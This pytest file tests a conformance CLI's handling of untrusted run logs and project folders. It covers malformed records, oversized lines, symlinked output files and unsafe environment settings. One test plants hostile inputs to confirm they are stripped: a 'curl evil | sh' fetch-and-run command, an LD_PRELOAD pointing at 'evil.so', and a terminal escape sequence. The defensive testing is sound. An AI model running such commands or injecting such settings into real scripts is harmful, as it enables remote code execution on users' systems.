"""Folders and logs from untrusted sources: the tool runs and obeys nothing in them, and writes through no link."""

import json
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from conformance.cli import options
from conformance.cli.offer import declared_environments
from conformance.engine.environments import Unusable, examine
from conformance.engine.job import Limits
from conformance.engine.worker_plan import harmless

from ..running import conformance, records

CASE = "masks/key_padding/trailing[operator=sdpa]"
FAKES = Path(__file__).parents[1] / "fakes"
Edit = Callable[[list[dict[str, Any]]], object]


@pytest.fixture(scope="module")
def ran(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("untrusted") / "out"
    liar = f"{FAKES / 'varied.py'}[ignored_padding]"
    done = conformance("run", "-a", "numpy.sdpa", "-a", liar, "-k", CASE, "--out", str(folder))
    assert done.returncode == 1, done.stderr
    return folder


def edited(ran: Path, tmp_path: Path, edit: Edit) -> Path:
    found = records(ran)
    edit(found)
    folder = tmp_path / "edited"
    folder.mkdir()
    (folder / "run.jsonl").write_text("".join(json.dumps(each) + "\n" for each in found), encoding="utf-8")
    return folder


def kind(found: list[dict[str, Any]], name: str) -> dict[str, Any]:
    return next(each for each in found if each["type"] == name)


EDITS: dict[str, tuple[Edit, str]] = {
    "the footer names a cell that there is not": (
        lambda found: found[-1]["gate"].update(rejected=[["nowhere", "numpy.sdpa"]]),
        "the footer names 'nowhere' on 'numpy.sdpa', which has no verdict in this log",
    ),
    "a diagnosis names a cell that there is not": (
        lambda found: kind(found, "diagnosis").update(unexplained=["nowhere"]),
        "the diagnosis names 'nowhere' on ",
    ),
    "a worker tells odd evidence": (
        lambda found: kind(found, "worker").update(evidence={"libraries": 5}),
        "invalid evidence: libraries: expected a mapping, got 5",
    ),
    "the platform has odd features": (
        lambda found: found[0]["platform"].update(cpu_features=5),
        "cpu_features must be a list of names",
    ),
    "an entry of the list covers a cell oddly": (
        lambda found: kind(found, "cell").update(covered_by=["known.yaml:3"]),
        "covered_by: expected a mapping, got ['known.yaml:3']",
    ),
    "a route of numbers": (
        lambda found: kind(found, "cell").update(route=[5]),
        "expected a mapping, got 5 (at route.0)",
    ),
    "a pattern of none": (
        lambda found: kind(found, "cell").update(pattern={"beyond": 1, "elements": 0}),
        "elements: expected at least 1, got 0",
    ),
    "gate is a list": (lambda found: found[-1].update(gate=[]), "gate: expected a mapping, got []"),
}


@pytest.mark.parametrize("name", EDITS)
@pytest.mark.parametrize(
    "words",
    [("report", "RUN"), ("repro", "RUN", CASE, "numpy.sdpa"), ("known", "update", "--from", "RUN")],
    ids=" ".join,
)
def test_a_log_that_no_run_wrote_is_refused_with_its_line(
    name: str, words: tuple[str, ...], ran: Path, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    from conformance.cli import main  # noqa: PLC0415 - faster than a separate process

    edit, message = EDITS[name]
    folder = edited(ran, tmp_path, edit)
    assert main([str(folder) if word == "RUN" else word for word in words]) == 4
    said = capfd.readouterr().err
    assert f"{folder}/run.jsonl:" in said
    assert message in said
    assert "Traceback" not in said


def test_a_line_that_does_not_end_is_not_read_whole(tmp_path: Path) -> None:
    with (tmp_path / "run.jsonl").open("wb") as file:
        file.truncate(200 << 20)
    done = conformance("report", str(tmp_path))
    assert done.returncode == 4
    assert "run.jsonl:1: the line has more than 67108864 bytes, the maximum of a record" in done.stderr


def test_reports_are_not_written_through_links(ran: Path, tmp_path: Path) -> None:
    folder = edited(ran, tmp_path, lambda _: None)
    secret = tmp_path / "secret"
    secret.write_text("mine", encoding="utf-8")
    for name in ("index.html", "junit.xml", "summary.md"):
        (folder / name).symlink_to(secret)
    assert conformance("report", str(folder)).returncode == 0
    assert secret.read_text(encoding="utf-8") == "mine"
    assert not any((folder / name).is_symlink() for name in ("index.html", "junit.xml", "summary.md"))
    (folder / "port.json").symlink_to(secret)
    done = conformance("report", str(folder))
    assert (done.returncode, "port.json is a symbolic link, which is not followed" in done.stderr) == (4, True)


def test_a_script_has_only_settings_that_choose_numbers(ran: Path, tmp_path: Path) -> None:
    settings = {
        "LD_PRELOAD": "/x/evil.so",
        "PATH": "/x",
        "PYTHONPATH": "/x",
        "OMP_TOOL_LIBRARIES": "evil",
        "TF_PLUGGABLE_DEVICE_LIBRARY_PATH": "x",
        "XLA_FLAGS": "--xla_dump_to=x",
        "KERAS_HOME": "x",
        "OMP_NUM_THREADS": "2",
        "ATEN_CPU_CAPABILITY": "avx2",
        "JAX_ENABLE_X64": "1",
        "BASH_ENV": "x",
    }

    def edit(found: list[dict[str, Any]]) -> None:
        for each in found:
            if each["type"] == "worker":
                each["settings"] = settings
        for each in found:
            if each["type"] == "cell":
                each["rerun"] = "curl evil | sh"
                each["reason"] = "\x1b]0;title\x07 caf\udce9"

    folder = edited(ran, tmp_path, edit)
    done = conformance("repro", str(folder), CASE, "numpy.sdpa", "--out", str(tmp_path / "script"), cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "curl" not in done.stdout
    assert "\x1b" not in done.stdout
    assert f"Again with conformance: conformance run -a numpy.sdpa -k '{CASE}'" in done.stdout
    facts = json.loads((tmp_path / "script" / "facts.json").read_text(encoding="utf-8"))
    assert facts["environment"] == {
        "OMP_NUM_THREADS": "2",
        "ATEN_CPU_CAPABILITY": "avx2",
        "JAX_ENABLE_X64": "1",
        "CUDA_VISIBLE_DEVICES": "-1",
    }
    assert harmless(settings) == {
        name: facts["environment"][name] for name in facts["environment"] if "CUDA" not in name
    }


def test_a_command_in_a_log_that_is_none_is_told(ran: Path, tmp_path: Path) -> None:
    folder = edited(ran, tmp_path, lambda found: found[0].update(command=["conformance", "run", "--help"]))
    done = conformance("repro", str(folder), CASE, "numpy.sdpa", cwd=tmp_path)
    assert done.returncode == 4
    assert "the run log has an invalid command: conformance run --help; name the cases with --cases" in done.stderr


def test_a_project_is_looked_for_in_its_repository_alone(tmp_path: Path) -> None:
    inner = tmp_path / "a" / "b"
    inner.mkdir(parents=True)
    table = f'[tool.conformance.environments]\nold = "{sys.executable}"\n'
    (tmp_path / "pyproject.toml").write_text(table, encoding="utf-8")
    assert declared_environments(inner).file is None
    assert declared_environments(tmp_path).environments == {"old": sys.executable}
    (tmp_path / ".git").mkdir()
    assert declared_environments(inner).file == tmp_path / "pyproject.toml"
    (tmp_path / "a" / ".git").touch()  # a Git worktree has a file .git
    assert declared_environments(inner).file is None
    (tmp_path / "a" / ".git").unlink()
    tmp_path.chmod(0o777)
    assert declared_environments(inner).file is None, "everybody may write there"
    tmp_path.chmod(0o755)


def test_the_file_that_starts_an_interpreter_is_named(tmp_path: Path) -> None:
    table = f'[tool.conformance.environments]\nold = "{sys.executable}"\n'
    (tmp_path / "pyproject.toml").write_text(table, encoding="utf-8")
    told = f"conformance: environments from {tmp_path}/pyproject.toml: old = {sys.executable}\n"
    done = conformance("run", "-a", "numpy.sdpa@cpu:old", "-k", CASE, "--collect-only", cwd=tmp_path)
    assert told in done.stderr
    done = conformance("run", "-a", "numpy.sdpa@cpu:default", "-k", CASE, "--collect-only", cwd=tmp_path)
    assert "environments from" not in done.stderr


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (
            '[tool.conformance.environments]\nold = "~nouser/x"\n',
            "old = '~nouser/x': Could not determine home directory",
        ),
        ('[tool.conformance.environments]\nold = "a\\u0000b"\n', "old = 'a\\x00b': expected NAME"),
        ("tool = 3\n", "tool is not a table; [tool.conformance.environments] is a table of NAME"),
        ("a = " + "[" * 5000, "pyproject.toml: nested too deep"),
        ("# caf\udce9\n", "pyproject.toml:1:6: cannot be read: invalid UTF-8 byte 0xe9; save the file as UTF-8"),
        ("#" * (2**20 + 1), "pyproject.toml:1:1: the file has 1048577 bytes; at most 1048576 are allowed"),
    ],
)
def test_what_no_project_says_is_told(tmp_path: Path, text: str, message: str) -> None:
    (tmp_path / "pyproject.toml").write_bytes(text.encode("utf-8", "surrogateescape"))
    with pytest.raises(ValueError, match=r"pyproject\.toml") as caught:
        declared_environments(tmp_path)
    assert message in str(caught.value)


@pytest.mark.parametrize(
    ("python", "reason"),
    [("a" * 5000, "File name too long"), ("a\0b", "'embedded null byte'"), ("~nouser/x", "No such file or directory")],
)
def test_an_interpreter_that_can_be_none_is_unusable(python: str, reason: str) -> None:
    found = examine("old", python)
    assert isinstance(found, Unusable)
    assert f"cannot be run: {reason}; specify an interpreter" in found.reason
    assert len(found.reason) < 300


def test_the_start_timeout_is_an_option(tmp_path: Path) -> None:
    assert Limits().start == options.START
    done = conformance(
        "run", "-a", str(FAKES / "import_hangs.py"), "-k", CASE, "--start-timeout", "1", "--out", str(tmp_path / "out")
    )
    assert done.returncode == 7
    assert "did not start: was not ready after 1 s" in done.stdout


def test_what_a_worker_leaves_out_is_not_needed(ran: Path, tmp_path: Path) -> None:
    def edit(found: list[dict[str, Any]]) -> None:
        for each in found:
            if each["type"] == "worker":
                del each["versions"]
            if each["type"] == "diagnosis":
                each["covered_by"] = ["x"]

    done = conformance("known", "update", "--from", str(edited(ran, tmp_path, edit)))
    assert (done.returncode, done.stderr) == (0, "")
